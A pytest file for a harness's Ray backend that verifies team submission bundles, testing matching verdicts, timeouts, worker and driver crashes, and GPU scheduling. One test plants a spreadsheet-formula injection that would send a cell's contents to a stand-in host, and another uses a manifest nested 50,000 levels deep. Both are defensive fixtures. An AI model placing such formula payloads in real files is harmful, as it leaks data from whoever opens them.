"""verify --all --backend ray on one local Ray cluster per test session (2 CPUs, 2 pretend GPUs):
the same verdict files as the local loop, a raising and a hanging bundle isolated, a worker
killed mid-bundle retried (a bounded number of times), a driver killed with SIGKILL resumed
without re-judging finished bundles, and fractional GPU requests scheduled onto the GPUs Ray has.

Skipped when ray is not installed (`pip install -e '.[cluster]'`); CI installs it."""

from __future__ import annotations

import importlib.util
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from harness.bundle.batch import read_ledger, verify_all
from tests.bundle_helpers import copy_bundle, rehash, run_cli
from tests.score_fixtures import tiny_config
from tests.test_hostile_bundle import SCORING_YAML, as_team

pytest_plugins = ["tests.bundle_fixtures", "tests.ray_fixtures"]  # demo_bundle, ray_cluster: once per session
needs_ray = pytest.mark.skipif(
    importlib.util.find_spec("ray") is None, reason="ray is not installed (pip install -e '.[cluster]')"
)
CLI_TIMEOUT = 240
_VERIFIED = re.compile(rb'\n  "verified": "[^"]*",?')  # the one time field of a verdict file


def _scoring():
    # the tiny aesthetic head scores about 0: the gate is moved below it, as in test_bundle_verify
    return tiny_config(scorers=["aesthetic"], reproduce=True).model_copy(update={"threshold": -1.0})


def _teams(demo_bundle: Path, root: Path, tmp_path: Path, teams: str) -> dict[str, Path]:
    """One honest copy of the demo bundle per team, at root/<team>/ (a folder names its team)."""
    root.mkdir(parents=True, exist_ok=True)
    out = {}
    for t in teams:
        out[t] = as_team(copy_bundle(demo_bundle, tmp_path / "staging" / t), t).rename(root / t)
    return out


def _verdict_bytes(bundle: Path) -> bytes:
    raw = (bundle / "verdict.json").read_bytes()
    assert len(_VERIFIED.findall(raw)) == 1
    return _VERIFIED.sub(b"", raw)


@needs_ray
def test_ray_verdicts_equal_the_local_loops_byte_for_byte(tmp_path, demo_bundle, ray_cluster):
    from harness.bundle.ray_backend import verify_all_ray

    root = tmp_path / "subs"
    bundles = _teams(demo_bundle, root, tmp_path, "ab")
    bad = as_team(copy_bundle(demo_bundle, tmp_path / "staging" / "d"), "d").rename(root / "d")
    (bad / "images" / "03.png").write_bytes(b"\x89PNG not this one")  # a failing bundle too
    bundles["d"] = bad

    local = verify_all(root, scoring=_scoring())
    local_bytes = {t: _verdict_bytes(b) for t, b in bundles.items()}
    local_ledger = read_ledger(root)
    # one worker with the session's 2 CPUs renders with 2 threads, as this process does: on the
    # CPU the thread count changes pixels ("reproducible" instead of "exact"; docs/judging.md)
    rows = verify_all_ray(root, scoring=_scoring(), force=True, workers=1)

    assert [r.bundle for r in rows] == [r.bundle for r in local]
    assert {t: _verdict_bytes(b) for t, b in bundles.items()} == local_bytes
    for key, entry in read_ledger(root).items():  # the ledger too, apart from the time field
        mine, theirs = dict(entry["verdict"]), dict(local_ledger[key]["verdict"])
        mine.pop("verified"), theirs.pop("verified")
        assert (mine, entry["digest"], entry["settings"]) == (
            theirs,
            local_ledger[key]["digest"],
            local_ledger[key]["settings"],
        )
    verdicts = {r.bundle.name: r.verdict for r in rows}
    assert [verdicts[t]["verdict"] for t in "abd"] == ["pass", "pass", "fail"]
    assert verdicts["a"]["reproducibility"] == "exact" and verdicts["a"]["scored_pixels"] == "re-rendered"
    assert all(r.worker.startswith("w0@") and r.seconds > 0 and r.attempts == 1 for r in rows)

    # unchanged bundles under the same settings are not judged again, by either backend
    again = verify_all_ray(root, scoring=_scoring())
    assert all(r.skipped for r in again)
    assert [r.verdict["verdict"] for r in again] == ["pass", "pass", "fail"]


@needs_ray
def test_a_raising_and_a_hanging_bundle_are_failed_rows_and_the_worker_goes_on(
    tmp_path, demo_bundle, ray_cluster
):
    """One worker: the bundle whose re-render runs past the limit is stopped and failed; the same
    worker then judges the bundle whose verification raises (a RecursionError) into a failed
    row of its own; both verdicts are written and in the ledger."""
    from harness.bundle.ray_backend import verify_all_ray

    root = tmp_path / "subs"
    slow = _teams(demo_bundle, root, tmp_path, "a")["a"]  # its re-render takes seconds
    broken = root / "zz" / "broken"
    broken.mkdir(parents=True)
    (broken / "manifest.json").write_text("[" * 50_000)

    start = time.monotonic()
    rows = verify_all_ray(root, scoring=_scoring(), time_limit_s=0.05, workers=1)
    assert time.monotonic() - start < 90
    by_name = {r.bundle.name: r for r in rows}
    assert by_name["a"].verdict["verdict"] == "fail"
    assert any("longer than the limit of 0.05 s" in p for p in by_name["a"].verdict["problems"])
    assert by_name["broken"].verdict["verdict"] == "fail"
    assert any("nested 50000 levels deep" in p for p in by_name["broken"].verdict["problems"])
    assert by_name["a"].worker == by_name["broken"].worker  # the same process went on
    assert set(read_ledger(root)) == {"a", "zz/broken"}
    assert json.loads((slow / "verdict.json").read_text())["verdict"] == "fail"
    assert json.loads((broken / "verdict.json").read_text())["verdict"] == "fail"


def _kill_later(pid: int, delay: float, killed: list[int]) -> None:
    """SIGKILL a Ray worker process `delay` s from now (only one whose name says it is Ray's)."""

    def fire():
        try:
            name = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            return
        if b"ray::" in name or b"JudgeWorker" in name or b"default_worker" in name:
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)

    threading.Timer(delay, fire).start()


@needs_ray
def test_a_worker_killed_mid_bundle_is_restarted_and_the_bundle_retried_a_bounded_number_of_times(
    tmp_path, demo_bundle, ray_cluster
):
    """Bundle a: its worker is killed once, mid-bundle; Ray restarts it and a is judged again,
    exactly as if nothing happened. Bundle b: its worker is killed every time (2 tries allowed):
    a failed row naming that."""
    from harness.bundle.ray_backend import verify_all_ray

    root = tmp_path / "subs"
    bundles = _teams(demo_bundle, root, tmp_path, "ab")
    killed: list[int] = []
    dispatched: list[tuple[str, int]] = []

    def on_dispatch(bundle: Path, worker: dict) -> None:
        warm = any(pid == worker["pid"] for _, pid in dispatched)  # judged a bundle already
        dispatched.append((bundle.name, worker["pid"]))
        if bundle.name == "b" or [n for n, _ in dispatched].count("a") == 1:
            # mid-bundle: a cold worker is importing and loading models for seconds; a warm one
            # judges a tiny bundle in about 0.5 s, so it is killed sooner
            _kill_later(worker["pid"], 0.1 if warm else 0.5, killed)

    rows = verify_all_ray(
        root, scoring=_scoring(), workers=1, gpus_per_worker=0, max_attempts=2, on_dispatch=on_dispatch
    )
    assert [n for n, _ in dispatched] == ["a", "a", "b", "b"]
    pids = [pid for _, pid in dispatched]  # a new process after each kill; a's retry also judged b
    assert len(killed) == 3 and pids[1] == pids[2] and len(set(pids)) == 3
    row_a, row_b = rows
    assert row_a.verdict["verdict"] == "pass" and row_a.attempts == 2, row_a.verdict["problems"]
    assert row_a.verdict["reproducibility"] == "exact"
    assert str(dispatched[1][1]) in row_a.worker
    assert row_b.verdict["verdict"] == "fail" and row_b.attempts == 2
    assert any("the worker judging it died 2 times" in p for p in row_b.verdict["problems"])
    ledger = read_ledger(root)
    assert ledger["a"]["verdict"]["verdict"] == "pass" and ledger["b"]["verdict"]["verdict"] == "fail"
    assert json.loads((bundles["a"] / "verdict.json").read_text())["verdict"] == "pass"


@needs_ray
def test_a_driver_killed_with_sigkill_is_rerun_and_skips_finished_bundles(tmp_path, demo_bundle):
    """The CLI starts its own private Ray (no --address); killed with SIGKILL after the first
    verdicts reach the ledger, it leaves a stray Ray temp folder. The rerun starts a fresh Ray,
    removes the stray folder, judges only the bundles without a current verdict, and writes the
    results table."""
    root = tmp_path / "subs"
    _teams(demo_bundle, root, tmp_path, "ab")
    (tmp_path / "scoring.yaml").write_text(SCORING_YAML, encoding="utf-8")
    short = Path(tempfile.mkdtemp(prefix="rt-", dir="/tmp"))  # Ray's socket paths must stay short
    env = {k: v for k, v in os.environ.items() if not k.startswith("RAY_")}
    env.update(TMPDIR=str(short), RAY_ENABLE_UV_RUN_RUNTIME_ENV="0")
    args = [sys.executable, "-m", "harness.cli", "verify", "--all", str(root), "--quiet"]
    args += ["--scoring", str(tmp_path / "scoring.yaml"), "--backend", "ray", "--workers", "1"]
    try:
        first = subprocess.Popen(
            args, cwd=tmp_path, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE
        )
        try:
            deadline = time.monotonic() + CLI_TIMEOUT
            while not read_ledger(root) and first.poll() is None and time.monotonic() < deadline:
                time.sleep(0.05)
            assert first.poll() is None, "the first run ended before it could be killed"
            first.send_signal(signal.SIGKILL)
        finally:
            first.kill()
            first.wait()
        assert first.returncode == -signal.SIGKILL
        finished = set(read_ledger(root))
        assert len(finished) == 1, "nothing left to interrupt"
        stray = list((short / f"harness-ray-{os.getuid()}").iterdir())
        assert len(stray) == 1  # the killed run's Ray folder

        again = subprocess.run(
            args, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=CLI_TIMEOUT
        )
        assert again.returncode == 0, again.stderr[-3000:]
        assert again.stdout.count("(unchanged, skipped)") == len(finished)
        assert set(read_ledger(root)) == {"a", "b"}
        assert not list((short / f"harness-ray-{os.getuid()}").iterdir())  # stray and own removed

        from harness.bundle.results import RESULTS, read_results

        table = read_results(root / RESULTS)
        assert list(table["folder"]) == ["a", "b"]
        assert list(table["verdict"]) == ["pass"] * 2
        assert sorted(table.loc[table["skipped"], "folder"]) == sorted(finished)
        judged = table[~table["skipped"]]
        assert (judged["seconds"] > 0).all() and judged["worker"].str.startswith("w0@").all()
        assert (
            table["score.aesthetic_mean"] == table["score.aesthetic_mean"][0]
        ).all()  # copies of one bundle
        assert not [p for p in root.rglob("*.tmp")] and not (root / ".verify-ray-probe").exists()
    finally:
        shutil.rmtree(short, ignore_errors=True)


@needs_ray
def test_fractional_gpu_requests_share_the_gpus_ray_has(tmp_path, demo_bundle, ray_cluster):
    """4 workers at 0.5 GPU on a cluster with 2 (pretend) GPUs: each worker is given one GPU id
    through CUDA_VISIBLE_DEVICES, two per GPU; on this CPU machine they judge on the CPU."""
    from harness.bundle.ray_backend import verify_all_ray
    from harness.errors import HarnessError

    root = tmp_path / "subs"
    _teams(demo_bundle, root, tmp_path, "abcd")
    workers: dict[str, dict] = {}

    rows = verify_all_ray(
        root,
        rerun=False,
        workers=4,
        gpus_per_worker=0.5,
        on_dispatch=lambda bundle, w: workers.setdefault(w["label"], w),
    )
    assert [r.verdict["verdict"] for r in rows] == ["pass"] * 4
    assert len(workers) == 4
    assert sorted(w["cuda_visible_devices"] for w in workers.values()) == ["0", "0", "1", "1"]
    assert all(w["gpu_ids"] == [w["cuda_visible_devices"]] for w in workers.values())

    # asking for more than the cluster has is one line at once, not a wait for ever
    with pytest.raises(HarnessError, match="need 3 GPUs; the Ray cluster has 2"):
        verify_all_ray(root, rerun=False, force=True, workers=3, gpus_per_worker=1)


def test_the_local_loop_writes_the_results_table_and_bundle_text_cannot_become_a_formula(
    tmp_path, demo_bundle, capsys
):
    """No Ray needed: the local backend writes the same table. A manifest's team is the team's
    own text; in the table it is one line, and a spreadsheet formula is quoted, not run."""
    from harness.bundle.results import RESULTS, read_results

    root = tmp_path / "subs"
    honest = _teams(demo_bundle, root, tmp_path, "a")["a"]
    evil = as_team(copy_bundle(demo_bundle, tmp_path / "staging" / "e"), "e").rename(root / "e")
    data = json.loads((evil / "manifest.json").read_text(encoding="utf-8"))
    data["team"] = '=HYPERLINK("http://x.invalid/?"&A1,"ok")\n'
    (evil / "manifest.json").write_text(json.dumps(data), encoding="utf-8")
    rehash(evil)

    assert run_cli(["verify", "--all", str(root), "--no-rerun", "--quiet"]) == 1
    assert f"results table: {root / RESULTS}" in capsys.readouterr().out
    table = read_results(root / RESULTS)
    assert list(table["folder"]) == ["a", "e"] and list(table["verdict"]) == ["pass", "fail"]
    assert list(table["worker"]) == ["local", "local"] and (table["seconds"] > 0).all()
    assert table.loc[1, "team"] == '\'=HYPERLINK("http://x.invalid/?"&A1,"ok")\\n'
    assert table.loc[1, "first_problem"].startswith("folder e holds the bundle of")
    assert json.loads((honest / "verdict.json").read_text())["verdict"] == "pass"

    # the flags of the Ray backend are refused without it, in one line
    assert run_cli(["verify", "--all", str(root), "--workers", "2"]) == 2
    assert capsys.readouterr().err.strip() == "harness: error: --workers: only with --backend ray"


@pytest.mark.parametrize(
    "flags,message",
    [
        (["--gpus-per-worker", "inf"], "--gpus-per-worker: a fraction up to 1 or a whole number (got inf)"),
        (["--gpus-per-worker", "nan"], "--gpus-per-worker: a fraction up to 1 or a whole number (got nan)"),
        (["--gpus-per-worker", "-1"], "--gpus-per-worker: a fraction up to 1 or a whole number (got -1)"),
        (["--gpus-per-worker", "1.5"], "--gpus-per-worker: a fraction up to 1 or a whole number (got 1.5)"),
        (["--workers", "0"], "--workers: must be at least 1 (got 0)"),
        (
            ["--address", "local"],
            "--address 'local': give auto, ray://host:port or host:port (leave it out for a private "
            "Ray on 127.0.0.1)",
        ),
    ],
)
def test_bad_ray_flags_are_one_line_before_anything_starts(tmp_path, capsys, flags, message):
    root = tmp_path / "subs"
    (root / "t").mkdir(parents=True)
    (root / "t" / "manifest.json").write_text("{}", encoding="utf-8")
    assert run_cli(["verify", "--all", str(root), "--backend", "ray", "--quiet", *flags]) == 2
    assert capsys.readouterr().err.strip() == f"harness: error: {message}"
    assert sorted(p.name for p in (root / "t").iterdir()) == ["manifest.json"]  # nothing written
